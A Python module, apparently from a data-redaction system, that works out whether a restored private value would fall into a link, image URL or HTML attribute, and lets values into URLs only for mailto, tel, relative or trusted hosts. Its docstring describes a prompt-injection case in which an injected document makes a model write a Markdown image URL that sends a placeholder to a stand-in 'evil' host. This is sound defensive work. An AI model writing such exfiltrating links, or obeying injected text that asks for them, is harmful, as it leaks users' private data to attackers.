"""Where a restored value would land: a pure function of the text before it, so that a stream and a whole text agree.

Values return to prose and code. They do not return to places that a client may fetch or render on its own: link targets,
image URLs, HTML attributes, unless the link is `mailto:`, `tel:`, relative, or goes to a host that the user, the
system prompt or the policy named. An injected document can make a model write `![](https://evil/?q=PERSON_4K7Q2MX8FT)`.
"""

import re
from collections.abc import Callable, Iterable
from typing import Final

WINDOW: Final = 4096  # characters of context; a URL longer than this is nobody's link

Hosts = Callable[[], frozenset[str]]

_URL_END = r"[^\s<>\"'`)\]}|\\]*"
_WEB_URL: Final = re.compile(rf"(?:\b(?:https?|ftp|wss?):)?(?P<slashes>[/\\]{{2}})(?P<rest>{_URL_END})$", re.IGNORECASE)
_SCRIPT_URL: Final = re.compile(r"\b(?:javascript|data|vbscript|blob|file):\S*$", re.IGNORECASE)
_REFERENCE: Final = re.compile(r"^ {0,3}\[[^\]\n]+\]:\s*<?(?P<url>[^\s>]*)$")
_TAG_START: Final = re.compile(r"<[a-zA-Z]")
_TAG: Final = re.compile(r"<[a-zA-Z](?:[^>\"']|\"[^\"]*\"|'[^']*')*>")
_ATTRIBUTE: Final = re.compile(r"[\s/\"'](?P<name>[a-zA-Z_:@][\w:.-]*)\s*=\s*\\*(?:\"(?P<double>[^\"]*)|'(?P<single>[^']*)|(?P<bare>[^\s\"'>]*))$")
_SCHEME: Final = re.compile(r"[a-z][a-z0-9+.-]*:", re.IGNORECASE)
_HOST: Final = re.compile(r"(?:https?:)?//(?:[^\s/@]*@)?(\[[0-9a-f:.]+\]|[\w.-]+)", re.IGNORECASE)
_URL_ATTRIBUTES: Final = frozenset({"href", "src", "action", "formaction", "cite", "poster", "data", "srcset", "background", "xlink:href"})


def hosts_in(texts: Iterable[str]) -> frozenset[str]:
    """Return the hosts of every URL in `texts`, lower-cased: the ones somebody trusted already named."""
    return frozenset(match[1].lower().rstrip(".") for text in texts for match in _HOST.finditer(text))


def landing(before: str, hosts: Hosts) -> str | None:
    """Return the sink (`link`, `image`, `attribute`) that a value written after `before` would fall into, or None."""
    before = before[-WINDOW:]
    attribute = _attribute(before) if "<" in before else None
    if attribute is not None:
        name, value = attribute
        return None if name in _URL_ATTRIBUTES and _harmless(value, hosts) else "attribute"
    target = before.rpartition("](")
    if target[1] and not re.search(r"[\s)>]", target[2].lstrip(" \n<")):
        return None if _harmless(target[2].lstrip(" \n<"), hosts) else ("image" if _is_image(target[0]) else "link")
    line = before[before.rfind("\n") + 1 :]
    reference = _REFERENCE.search(line) if "]:" in line else None
    if reference:
        return None if _harmless(reference["url"], hosts) else "link"
    word = "" if not line or line[-1].isspace() else line.rsplit(None, 1)[-1]
    if ":" not in word:
        return None
    if _SCRIPT_URL.search(word):
        return "link"
    web = _WEB_URL.search(word)
    # A bare `//` is a comment in most languages; it is a URL only behind a scheme.
    if web and not web[0].startswith(("/", "\\")):
        return None if _harmless(web[0], hosts) else "link"
    return None


def _attribute(before: str) -> tuple[str, str] | None:
    """Return the name and the value so far of the HTML attribute in which the text ends, or None."""
    position = 0
    while start := _TAG_START.search(before, position):
        tag = _TAG.match(before, start.start())
        if tag is None:
            open_tag = _ATTRIBUTE.search(before, start.start())
            if open_tag is None:
                return None
            return open_tag["name"].lower(), next(v for v in (open_tag["double"], open_tag["single"], open_tag["bare"]) if v is not None)
        position = tag.end()
    return None


def _is_image(label: str) -> bool:
    """Whether the Markdown label that ends `label` was opened by `![`."""
    depth = 1
    for index in range(len(label) - 1, -1, -1):
        depth += (label[index] == "]") - (label[index] == "[")
        if depth == 0:
            return label[index - 1 : index] == "!"
    return False


def _harmless(url: str, hosts: Hosts) -> bool:
    """Whether the link is one that may carry originals, judged by its beginning."""
    url = url.strip().replace("\\", "/")
    lowered = url.lower()
    if lowered.startswith(("mailto:", "tel:")):
        return True
    if lowered.startswith("//") or _SCHEME.match(lowered):
        match = _HOST.match(lowered)
        # The host must be complete before the value: what follows it could extend it.
        return bool(match and lowered[match.end() : match.end() + 1] in {"/", "?", "#", ":"} and match[1].rstrip(".") in hosts())
    return True  # relative, or empty: then the value is the whole target and goes where it says itself
